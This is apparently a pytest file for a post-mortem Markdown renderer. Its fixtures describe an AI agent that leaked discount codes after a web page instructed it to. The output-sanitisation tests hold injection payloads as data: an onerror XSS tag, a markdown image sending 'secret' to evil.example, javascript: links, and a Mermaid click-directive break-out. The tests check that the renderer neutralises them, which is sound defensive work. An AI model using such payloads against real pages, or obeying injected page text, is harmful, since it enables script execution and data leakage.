"""The Markdown post-mortem: the brief's sections, in order, with inert incident text."""

from datetime import timedelta

from server.report import md, render_markdown, render_review, review_outcome
from store.models import ActionItem, Analysis, Category, Incident, SimilarIncident, TimelineEvent
from tests.conftest import FIXED_NOW
from tests.test_tools import draft

SECTIONS = [
    "# Post-mortem:",
    "## Description",
    "## Timeline",
    "## Root cause analysis: 5 whys",
    "### Root cause",
    "### Contributing factors",
    "### Novelty and similar past incidents",
    "## Model behavior",
    "**Deterministic or probabilistic:**",
    "## Action items",
]


def incident(**changes: object) -> Incident:
    base = Incident(
        id="INC-5",
        title="Agent leaked a discount code",
        category=Category.PROMPT_INJECTION,
        severity="SEV2",
        triage="full",
        created_at=FIXED_NOW,
        resolved_at=FIXED_NOW,
        status="resolved",
        description="A web page told the agent to reveal codes.",
        timeline=[TimelineEvent(at=FIXED_NOW, kind="detected", description="Alert fired")],
    )
    return base.model_copy(update=changes)


def test_report_has_the_brief_sections_in_order() -> None:
    analysis = Analysis(**draft().model_dump(), generated_by="openai", llm_model="m", created_at=FIXED_NOW)
    item = ActionItem(
        id="AI-1",
        incident_id="INC-5",
        title="Strip tool output of instructions",
        owner="sec",
        priority="P0",
        created_at=FIXED_NOW,
        status="completed",
    )
    text = render_markdown(incident(analysis=analysis, action_items=[item]), similar=[], now=FIXED_NOW)
    positions = [text.index(s) for s in SECTIONS]
    assert positions == sorted(positions)
    assert "| Severity | SEV2 |" in text and "- [x] **P0** Strip tool output of instructions" in text
    assert text.count("**Why ") == 5 and "A fix must pass 50 clean runs" in text
    assert "drafted by `openai`" in text and "review before publishing" in text


def test_without_analysis_the_report_says_how_to_draft_and_asks_for_model_behavior() -> None:
    text = render_markdown(incident(), similar=[], now=FIXED_NOW)
    assert "postmortem draft INC-5" in text and "what did the model say or do" in text


def test_incident_text_cannot_inject_html_images_or_script_links() -> None:
    evil = incident(
        description="<img src=x onerror=alert(1)> ![t](https://evil.example/?q=secret) [c](javascript:alert(1))"
    )
    text = render_markdown(evil, similar=[], now=FIXED_NOW)
    assert "<img" not in text and "![t](" not in text and "(javascript:" not in text
    assert md("a & b < c") == "a &amp; b &lt; c"


def test_the_report_lists_blaming_language_in_the_analysis() -> None:
    analysis = Analysis(**draft().model_dump(), generated_by="openai", created_at=FIXED_NOW)
    analysis = analysis.model_copy(update={"root_cause": "Human error: the on-call engineer forgot to add backoff."})
    text = render_markdown(incident(analysis=analysis), similar=[], now=FIXED_NOW)
    section = text.split("## Blameless language check")[1]
    assert 'root cause: "Human error"' in section and "forgot to" in section
    clean = render_markdown(
        incident(analysis=Analysis(**draft().model_dump(), generated_by="x", created_at=FIXED_NOW)),
        similar=[],
        now=FIXED_NOW,
    )
    assert "No blaming language found" in clean


def known(id_: str = "INC-2", score: float = 0.91) -> SimilarIncident:
    return SimilarIncident(
        id=id_,
        title="Agent leaked a coupon | after a web page asked",
        category=Category.PROMPT_INJECTION,
        severity="SEV3",
        status="resolved",
        score=score,
        created_at=FIXED_NOW,
        root_cause="The system let page text reach the tool-calling prompt unmarked.",
    )


def item(n: int, status: str = "open", overdue: bool = False) -> ActionItem:
    return ActionItem.model_validate(
        {
            "id": f"AI-{n}",
            "incident_id": "INC-2",
            "title": f"Mark page text as data | step {n}",
            "owner": "platform",
            "status": status,
            "overdue": overdue,
            "created_at": FIXED_NOW,
            "due_at": FIXED_NOW + timedelta(days=3),
        }
    )


def test_review_outcomes() -> None:
    lightweight = incident(severity="SEV4", triage="lightweight")
    assert review_outcome(lightweight, [], [item(1)])[0].startswith("Not a known pattern")
    assert "Recurred after fix" in review_outcome(lightweight, [known()], [item(1, "completed")])[0]
    assert (
        "Recurred after fix"
        in review_outcome(lightweight.model_copy(update={"recurred_after_fix": True}), [known()], [])[0]
    )
    assert review_outcome(lightweight, [known()], [])[0].startswith("No action items")
    assert review_outcome(lightweight, [known()], [item(1, overdue=True), item(2)])[0].startswith("1 item(s) overdue")
    [fine] = review_outcome(lightweight, [known()], [item(1, "completed"), item(2, "in_progress")])
    assert fine.startswith("Known pattern, 1 of 2 items completed")


def test_review_lists_the_pattern_and_its_items_in_a_valid_table() -> None:
    text = render_review(
        incident(severity="SEV4", triage="lightweight", title="Coupon <b>leak</b>"),
        pattern=[known()],
        items=[item(1, "completed"), item(2, overdue=True)],
        same_signature={"INC-2"},
        now=FIXED_NOW,
    )
    assert text.startswith("# Lightweight review: Coupon &lt;b&gt;leak&lt;/b&gt;")
    assert "- [ ] INC-2 (0.91 similar, **same failure signature**" in text
    assert "1 of 2 completed, **1 overdue**" in text
    rows = [line for line in text.splitlines() if line.startswith("| AI-")]
    assert len(rows) == 2 and all(row.count(" | ") == 5 for row in rows)  # the title's pipe is escaped
    assert "Mark page text as data \\| step 2" in rows[1] and "**overdue**" in rows[1]
    assert "1 item(s) overdue" in text


def test_contributing_factors_become_a_mermaid_causal_graph_that_text_cannot_break() -> None:
    from store.models import Factor, Why

    analysis = Analysis(
        whys=[Why(question="Why?", answer="Because.")],
        root_cause="The system allowed retries without backoff.",
        contributing_factors=[
            Factor(factor="no jitter in retries", effect="synchronised bursts"),
            Factor(factor="Synchronised bursts", effect="quota exhausted"),
            Factor(factor='evil"] \n click n1 "javascript:alert(1)', effect="quota exhausted"),
        ],
        generated_by="assistant",
        created_at=FIXED_NOW,
    )
    text = render_markdown(incident(analysis=analysis), similar=[], now=FIXED_NOW)
    graph = text.split("```mermaid\n")[1].split("```")[0]
    lines = graph.splitlines()
    assert lines[0] == "flowchart LR"
    assert "  n1 --> n2" in lines and "  n2 --> n3" in lines  # "synchronised bursts" continues the chain
    assert "  n3 --> incident" in lines and "  n4 --> n3" in lines
    assert not any(line.lstrip().startswith("click") for line in lines)  # the label could not add a directive
    assert 'n4["evil#quot;] click n1 #quot;javascript:alert(1)"]' in graph
